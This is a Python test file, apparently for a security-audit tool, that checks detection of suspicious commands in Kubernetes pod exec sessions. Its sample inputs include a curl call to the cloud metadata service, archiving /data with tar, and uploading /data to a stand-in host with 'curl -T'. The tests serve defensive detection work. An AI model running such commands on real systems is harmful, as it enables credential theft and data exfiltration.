"""What leaves by sessions."""

from iocaudit.signals.audit_event import read_event
from iocaudit.signals.indicators.outbound import opened
from tests.support.detection_samples import PLACE, seen


def exec_of(*command: str, code: int = 101) -> dict[str, object]:
    query = "&".join(f"command={word}" for word in command)
    return {
        "verb": "get",
        "user": {"username": "alice"},
        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "web"},
        "requestURI": f"/exec?{query}",
        "responseStatus": {"code": code},
    }


def test_the_metadata_service_is_not_a_download_as_well() -> None:
    assert seen(exec_of("curl", "http://169.254.169.254/")) == ["metadata-asked-in-session", "session-opened"]
    assert seen(exec_of("curl", "https://x.example.com/")) == ["download-in-session", "session-opened"]


def test_files_by_cp_and_by_upload() -> None:
    assert "files-taken-out" in seen(exec_of("tar", "cf", "-", "/data"))
    assert "files-taken-out" in seen(exec_of("curl", "-T", "/data", "https://x.example.com"))
    assert "files-taken-out" not in seen(exec_of("tar", "xmf", "-"))


def test_a_command_that_was_refused_did_nothing() -> None:
    assert opened(read_event(exec_of("ls", code=403), PLACE, "native")) == ()
    assert "files-taken-out" not in seen(exec_of("tar", "cf", "-", "/data", code=403))
